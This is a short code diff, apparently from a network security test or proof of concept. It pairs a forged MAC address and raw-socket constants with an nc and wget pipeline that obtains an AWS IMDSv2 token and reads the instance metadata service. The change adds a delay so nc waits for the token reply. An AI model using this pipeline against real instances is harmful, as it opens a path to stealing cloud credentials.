@@ -35,8 +35,9 @@ ETH_P_ALL = 3
 SO_RCVBUFFORCE = 33
 FORGED_MAC = "52:54:de:ad:be:ef"
 DEADLINE_S = 60.0
+# nc hangs up when it has sent all that it gets: not before the answer is there.
 TOKEN = (
-    r"printf 'PUT /latest/api/token HTTP/1.0\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n'"
+    r"{ printf 'PUT /latest/api/token HTTP/1.0\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n'; sleep 1; }"
     f" | nc {METADATA} 80 | tail -n 1"
 )
 READ = f'wget -q -O - --header "X-aws-ec2-metadata-token: $({TOKEN})"'
